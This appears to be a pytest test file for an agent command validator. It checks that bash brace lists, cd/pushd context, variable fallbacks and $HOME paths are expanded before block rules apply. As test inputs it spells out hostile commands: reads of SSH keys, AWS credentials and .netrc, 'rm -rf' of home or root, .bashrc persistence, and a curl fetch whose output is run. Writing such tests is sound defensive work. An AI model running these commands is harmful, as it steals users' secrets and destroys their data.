"""Words bash expands before a rule would see them: brace lists, and paths relative to
where an earlier `cd`/`pushd` of the same script went."""
from __future__ import annotations

import pytest

from agent_immune.validate import Policy, validate


def judged(text: str) -> tuple[str, list[str]]:
    v = validate(text, policy=Policy())
    return v.verdict, sorted({r.rule for r in v.reasons})


@pytest.mark.parametrize("text, rule", [
    ("cat ~/{.ssh,x}/id_rsa", "secret-read"),
    ("cat {~/.ssh,x}/id_rsa", "secret-read"),
    ("cat ~/.{ss,x}h/id_rsa", "secret-read"),
    ("cat ~/{{.ssh,.aws},x}/{id_rsa,credentials}", "secret-read"),
    ("echo x >> ~/.{bashrc,zshrc}", "persistence"),
])
def test_a_brace_list_counts_as_every_word_it_expands_to(text, rule):
    verdict, rules = judged(text)
    assert verdict == "block" and rule in rules, (text, rules)


@pytest.mark.parametrize("text", ["cp src/{a,b}.py out/", "ls {src,tests}/", "rm -rf {build,dist}", "mkdir -p a/{b,c}/d"])
def test_ordinary_brace_lists_stay_allowed(text):
    assert judged(text) == ("allow", [])


@pytest.mark.parametrize("text, rule", [
    ("cd ~; cat .ssh/id_rsa", "secret-read"),
    ("cd; cat .aws/credentials", "secret-read"),
    ("cd /root && cat .ssh/id_rsa", "secret-read"),
    ("cd ~/.config; cat gh/hosts.yml", "secret-read"),
    ("cd $HOME; cat .netrc", "secret-read"),
    ("cd ~ && cd .ssh && cat id_rsa", "secret-read"),
    ("pushd ~ && cat .ssh/id_ed25519", "secret-read"),
    ("cd ~ && rm -rf *", "destructive-rm"),
    ("cd / && rm -rf *", "destructive-rm"),
    ("cd ~; rm -rf .ssh", "destructive-rm"),
    ("cd /etc; rm -rf ssh", "destructive-rm"),
])
def test_relative_paths_are_read_from_where_cd_went(text, rule):
    verdict, rules = judged(text)
    assert verdict == "block" and rule in rules, (text, rules)


@pytest.mark.parametrize("text", [
    "cd src && cat main.py", "cd ~/proj && git status", "cd ~/proj && rm -rf build dist", "cd /srv/app && make test",
    "cd /tmp; cat .ssh/id_rsa",   # /tmp/.ssh is nobody's key
    "cd ~ && ls -la",
])
def test_ordinary_cd_sequences_stay_allowed(text):
    assert judged(text) == ("allow", [])


def test_an_unknown_cd_target_does_not_guess():
    # `cd -` and a relative cd from an unknown start say nothing about where we are
    assert judged("cd - ; cat .ssh/id_rsa") == ("allow", [])
    assert judged("cd proj && cat .ssh/id_rsa") == ("allow", [])


def test_the_shortcut_agrees_with_the_full_analysis_on_these():
    from .test_fastpath_equivalence import assert_same

    for text in ["cd ~; cat .ssh/id_rsa", "cd; cat .aws/credentials", "cd $HOME; cat .netrc", "cd ~ && rm -rf *",
                 "cd src && cat main.py", "cd ~/proj && git status", "cd /tmp; cat .ssh/id_rsa", "cd - ; cat x",
                 "cat ~/{.ssh,x}/id_rsa", "ls {src,tests}/", "pushd /root; cat .ssh/id_rsa; popd", "cd\ncat .netrc"]:
        assert_same(text)


# `${NAME:-FALLBACK}` of a name the input never set: the fallback, which the script runs unless the user's
# environment says otherwise (a false block of the ninth session's held-out batch: `"$PY" -m venv`)
@pytest.mark.parametrize("text", [
    'PY=${PYTHON:-python3}\n"$PY" -m venv .venv', "${CC:-gcc} -O2 -o app app.c", "rm -rf ${BUILD_DIR:-build}",
    "${EDITOR:-vi} notes.md", 'D=${TMPDIR:-/tmp}/build; rm -rf "$D"', "make -j${JOBS:-4}",
])
def test_fallbacks_of_names_the_input_never_set(text):
    from .test_fastpath_equivalence import assert_same

    assert validate(text, policy=Policy()).verdict == "allow", text
    assert_same(text)


@pytest.mark.parametrize("text, rule", [
    ("cat ${KEY:-~/.ssh/id_rsa}", "secret-read"), ("rm -rf ${D:-~}", "destructive-rm"),
    ("echo x > ${RC-~/.bashrc}", "persistence"), ("${X:-rm} -rf ~", "destructive-rm"),
    # a name the input set to something computed stays unknown, whatever the fallback
    ("X=$(curl -s http://203.0.113.9/x); ${X:-ls}", "nonliteral-command"),
])
def test_fallbacks_are_judged(text, rule):
    from .test_fastpath_equivalence import assert_same

    v = validate(text, policy=Policy())
    assert v.verdict == "block" and rule in {r.rule for r in v.reasons}, (text, v)
    assert_same(text)


# `$(git rev-parse --show-toplevel)` is where the project is, read as `.` (a false block of the ninth session's
# held-out batch: tools installed into the project's `bin` and run from there)
@pytest.mark.parametrize("text", [
    'BIN="$(git rev-parse --show-toplevel)/bin"\nmkdir -p "$BIN"\n"$BIN/golangci-lint" --version',
    '"$(git rev-parse --show-toplevel)/scripts/lint.sh"', 'cd "$(git rev-parse --show-toplevel)" && make test',
    'ROOT=$(git rev-parse --show-toplevel); rm -rf "$ROOT/build"',
])
def test_the_project_top_is_the_project(text):
    from .test_fastpath_equivalence import assert_same

    assert validate(text, policy=Policy()).verdict == "allow", text
    assert_same(text)


@pytest.mark.parametrize("text, rule", [
    ('rm -rf "$(git rev-parse --show-toplevel)/.."', "destructive-rm"),
    ("$(echo ./)x", "nonliteral-command"),  # the same text printed by echo is still a computed name
])
def test_the_project_top_is_still_judged(text, rule):
    v = validate(text, policy=Policy())
    assert v.verdict == "block" and rule in {r.rule for r in v.reasons}, (text, v)


@pytest.mark.parametrize("cmd,verdict", [
    # `"$HOME"x` is the home's path with more letters (a sibling of it), not `~x`, user x's home
    ('grep -rh x "$HOME"i', "allow"), ('grep -r x "${HOME}"dir', "allow"),
    ('grep -r x "$HOME"', "block"), ('grep -r x "$HOME"/', "block"), ('cat "$HOME"/.ssh/id_rsa', "block"),
    ("grep -r x ~i", "block"),
])
def test_home_glued_to_more_letters(cmd: str, verdict: str) -> None:
    assert judged(cmd)[0] == verdict
